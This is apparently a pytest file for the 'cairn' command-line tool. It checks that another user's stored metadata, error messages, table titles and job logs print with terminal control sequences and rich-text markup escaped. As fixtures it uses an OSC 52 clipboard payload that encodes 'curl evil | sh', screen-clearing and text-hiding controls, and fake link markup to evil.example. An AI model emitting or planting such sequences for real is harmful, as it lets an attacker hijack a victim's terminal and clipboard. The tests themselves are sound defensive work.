"""What one user stores, another user's `cairn` prints: never as terminal control sequences
(ESC starts CSI and OSC sequences, OSC 52 writes the viewer's clipboard, CR hides text) and
never read as rich markup. Shown escaped (`\\x1b`); --json output escapes them itself, and
DEL and the C1 controls, which JSON leaves raw, as `\\u` escapes."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from pymongo.asynchronous.database import AsyncDatabase

from cairn.cli.output import safe_text, table
from cairn.sdk import Client
from kernel.db import Document
from tests.fixtures.api import RunningApi
from tests.fixtures.cli import run_cli
from tests.fixtures.grid import Grid, PilotProcess, check_all, start_pilot, wait_for
from wms.config import WmsSettings

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # OSC 52: "curl evil | sh" into the clipboard
PLANTED = f"proton{CLIPBOARD}\x1b[2J\rok [link=https://evil.example]docs[/link]"


async def test_a_metadata_value_reaches_another_users_terminal_escaped(
    api: RunningApi, admin: Client, catalogue_db: AsyncDatabase[Document]
) -> None:
    assert not (await admin.register_files([{"lfn": "/cta/mc/f1", "size": 1, "adler32": "00000001",
                                             "replicas": [{"se": "CERN-DISK"}]}]))["failed"]
    planted = await run_cli(api.url, api.admin_token, "meta", "set", "/cta/mc/f1", f"particle={PLANTED}",
                                "--json")
    assert planted.returncode == 0, planted.stderr
    for args in (("meta", "get", "/cta/mc/f1"), ("find", "particle=Any")):
        shown = await run_cli(api.url, api.admin_token, *args)
        assert shown.returncode == 0, shown.stderr
        assert "\x1b" not in shown.stdout and "\r" not in shown.stdout and "\x07" not in shown.stdout
        assert "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07" in shown.stdout.replace("\n", "")
    as_table = (await run_cli(api.url, api.admin_token, "meta", "get", "/cta/mc/f1")).stdout
    assert "[link=https://evil.example]docs[/link]" in as_table.replace("\n", "")  # not markup
    as_json = await run_cli(api.url, api.admin_token, "meta", "get", "/cta/mc/f1", "--json")
    assert json.loads(as_json.stdout)["effective"]["particle"] == PLANTED


async def test_json_output_escapes_del_and_the_c1_controls_too(
    api: RunningApi, admin: Client, catalogue_db: AsyncDatabase[Document]
) -> None:
    planted = "a\x7fb\x9b2Jc\x85d"  # DEL; CSI and NEL as an 8-bit terminal reads them
    assert not (await admin.register_files([{"lfn": "/cta/mc/f2", "size": 1, "adler32": "00000001",
                                             "replicas": [{"se": "CERN-DISK"}]}]))["failed"]
    await admin.set_metadata("/cta/mc/f2", {"note": planted})
    shown = await run_cli(api.url, api.admin_token, "meta", "get", "/cta/mc/f2", "--json")
    assert shown.returncode == 0, shown.stderr
    assert not any(c in shown.stdout for c in "\x7f\x9b\x85"), shown.stdout
    assert "a\\u007fb\\u009b2Jc\\u0085d" in shown.stdout
    assert json.loads(shown.stdout)["effective"]["note"] == planted  # the same value, for scripts


async def test_an_error_naming_a_planted_value_shows_it_as_written(api: RunningApi, admin: Client) -> None:
    refused = await run_cli(api.url, api.admin_token, "ls", f"/cta/[link=https://evil.example]x[/link]{CLIPBOARD}")
    assert refused.returncode == 2
    assert "\x1b" not in refused.stderr and "\x07" not in refused.stderr
    assert "[link=https://evil.example]x[/link]" in refused.stderr.replace("\n", "")


async def test_job_logs_show_a_payloads_control_characters_escaped_unless_raw(
    api: RunningApi, grid: Grid, wms_config: WmsSettings, pilots: list[PilotProcess], tmp_path: Path
) -> None:
    async with api.client(api.token(sub="alice", scopes=("jobs.read", "jobs.write"))) as alice:
        [job_id] = await alice.submit_jobs([{"executable": "/bin/printf",
                                             "arguments": ["line one\\n\\033]52;c;eA==\\007\\rcover\\n"]}])
    await check_all(grid.db, wms_config)
    start_pilot(api, "SITE-A", tmp_path, wms_config, pilots)
    [job] = await wait_for(grid.db, [job_id], {"done", "failed"}, pilots=pilots)
    assert job["stdout"] == "line one\n\x1b]52;c;eA==\x07\rcover\n"
    shown = await run_cli(api.url, api.admin_token, "job", "logs", job_id)
    assert shown.returncode == 0, shown.stderr
    assert "line one\n\\x1b]52;c;eA==\\x07\\x0dcover\n" in shown.stdout
    raw = await run_cli(api.url, api.admin_token, "job", "logs", job_id, "--raw")
    assert "line one\n\x1b]52;c;eA==\x07" in raw.stdout  # (text mode reads the CR as a newline)


def test_a_table_title_naming_stored_values_is_not_markup(capsys: pytest.CaptureFixture[str]) -> None:
    table([{"a": 1}], ["a"], title=f"moved: [link=https://evil.example]x[/link]{CLIPBOARD}")
    printed = capsys.readouterr().out
    assert "\x1b" not in printed and "[link=https://evil.example]" in printed.replace("\n", "")


def test_safe_text_escapes_controls_and_bidi_and_keeps_lines_only_when_asked() -> None:
    assert safe_text("a\tb\nc\x1b[31m\x9b\u202ed\x7f") == "a\\x09b\\x0ac\\x1b[31m\\x9b\\u202ed\\x7f"
    assert safe_text("a\tb\nc\rd\x00", lines=True) == "a\tb\nc\\x0dd\\x00"
